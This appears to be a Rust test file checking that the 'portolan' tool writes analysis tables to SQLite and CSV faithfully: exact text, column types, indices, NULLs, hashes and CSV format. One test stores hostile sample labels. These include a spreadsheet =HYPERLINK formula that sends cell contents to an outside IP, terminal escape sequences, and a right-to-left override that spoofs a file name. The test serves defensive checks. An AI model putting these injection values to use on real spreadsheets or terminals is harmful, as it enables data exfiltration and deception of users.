//! Tables → SQLite: exact text, types, order.

use super::sample::{analysis, job};
use crate::support::fresh_folder;
use portolan::report::table::Kind;
use portolan::report::{Analysis, Options, SCHEMA, View, tables};
use portolan::write::{Format, Output, write};
use rusqlite::Connection;
use rusqlite::types::ValueRef;
use std::path::Path;

fn written(analysis: &Analysis, into: &Path) -> Vec<Output> {
    let options = Options::default();
    let view = View::new(analysis, &options);
    write(tables(&view), Format::ALL, into).unwrap().outputs
}

fn database(into: &Path) -> Connection {
    Connection::open(into.join("portolan.sqlite")).unwrap()
}

#[test]
fn text_is_kept_exactly_whatever_it_holds() {
    let labels = [
        "=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"ok\")",
        "\t=1+1",
        "a\r\n=2+2",
        "x\u{1b}]0;pwn\u{7}\u{1b}[2J",
        "com.apple.\u{202e}gnp.x",
        "nul\u{0}inside",
        "'quoted'",
        &"long".repeat(1024),
    ];
    let mut analysis = analysis();
    analysis.ports[0].jobs = labels.iter().map(|label| job(label)).collect();
    let folder = fresh_folder("sqlite-exact");
    written(&analysis, &folder);
    let database = database(&folder);
    let mut query = database.prepare("SELECT label FROM services ORDER BY rowid").unwrap();
    let mut rows = query.query([]).unwrap();
    for label in labels {
        let row = rows.next().unwrap().unwrap();
        assert_eq!(row.get_ref(0).unwrap(), ValueRef::Text(label.as_bytes()), "{label:?}");
    }
}

#[test]
fn tables_have_the_names_columns_and_types_of_the_schema() {
    let folder = fresh_folder("sqlite-schema");
    written(&analysis(), &folder);
    let database = database(&folder);
    for schema in SCHEMA {
        let sql = format!("SELECT name, type FROM pragma_table_info('{}')", schema.table);
        let mut query = database.prepare(&sql).unwrap();
        let columns: Vec<(String, String)> = query
            .query_map([], |row| Ok((row.get(0)?, row.get(1)?)))
            .unwrap()
            .map(Result::unwrap)
            .collect();
        let kind = |kind| if kind == Kind::Integer { "INTEGER" } else { "TEXT" };
        let expected: Vec<_> = schema
            .columns
            .iter()
            .map(|one| (one.name.to_owned(), kind(one.kind).to_owned()))
            .collect();
        assert_eq!(columns, expected, "{}", schema.table);
    }
}

#[test]
fn unknown_values_are_null_and_numbers_are_numbers() {
    let folder = fresh_folder("sqlite-null");
    written(&analysis(), &folder);
    let sql =
        "SELECT count(*) FROM bindings WHERE latest_end IS NULL AND typeof(local_port) = 'integer'";
    let count: i64 = database(&folder).query_row(sql, [], |row| row.get(0)).unwrap();
    assert_eq!(count, 1);
}

#[test]
fn the_view_joins_the_timeline_with_the_anomalies() {
    let folder = fresh_folder("sqlite-view");
    written(&analysis(), &folder);
    let sql = "SELECT count(*), min(score), count(DISTINCT anomaly_id) FROM anomaly_timeline";
    let read = |row: &rusqlite::Row<'_>| Ok((row.get(0)?, row.get(1)?, row.get(2)?));
    let counts: (i64, i64, i64) = database(&folder).query_row(sql, [], read).unwrap();
    assert_eq!(counts.1, 25);
    assert_eq!(counts.2, 3);
    assert!(counts.0 > 3);
}

#[test]
fn time_port_service_and_process_are_indexed() {
    let folder = fresh_folder("sqlite-indices");
    written(&analysis(), &folder);
    for (table, column) in [
        ("bindings", "local_port"),
        ("bindings", "service"),
        ("bindings", "process"),
        ("timeline", "timestamp"),
        ("anomalies", "first_seen"),
    ] {
        let plan = format!("EXPLAIN QUERY PLAN SELECT * FROM {table} WHERE {column} = ?");
        let detail: String =
            database(&folder).query_row(&plan, ["x"], |row| row.get("detail")).unwrap();
        assert!(detail.contains("USING INDEX"), "{detail}");
    }
}

#[test]
fn the_same_analysis_gives_the_same_hashes_and_another_one_does_not() {
    let (one, two, three) =
        (fresh_folder("hash-one"), fresh_folder("hash-two"), fresh_folder("hash-three"));
    let first = written(&analysis(), &one);
    assert_eq!(first, written(&analysis(), &two));
    let mut other = analysis();
    other.ports[0].bindings[0].pid = None;
    let sqlite = |outputs: &[Output]| {
        outputs.iter().find(|one| one.file == "portolan.sqlite").unwrap().sha256.clone()
    };
    assert_ne!(sqlite(&first), sqlite(&written(&other, &three)));
    let csv = first.iter().find(|output| output.file == "hosts.csv").unwrap();
    let bytes = std::fs::read(one.join("hosts.csv")).unwrap();
    assert_eq!(csv.sha256, portolan::evidence::digest::sha256(&bytes));
    assert_eq!(csv.bytes, bytes.len() as u64);
}

#[test]
fn a_csv_file_begins_with_its_columns_and_ends_lines_with_a_line_feed() {
    let folder = fresh_folder("csv-file");
    written(&analysis(), &folder);
    let text = std::fs::read_to_string(folder.join("hosts.csv")).unwrap();
    assert_eq!(
        text,
        "host,serial,os_version,os_build,time_zone,time_zone_source,role,evidence\n\
         mb-lab01,,14.4,23E214,'-03:00,,,uac-mb-lab01\n\
         mb-lab02,,14.4,23E214,'-03:00,,,uac-mb-lab01\n"
    );
    assert!(!folder.join("meta.csv").exists());
}
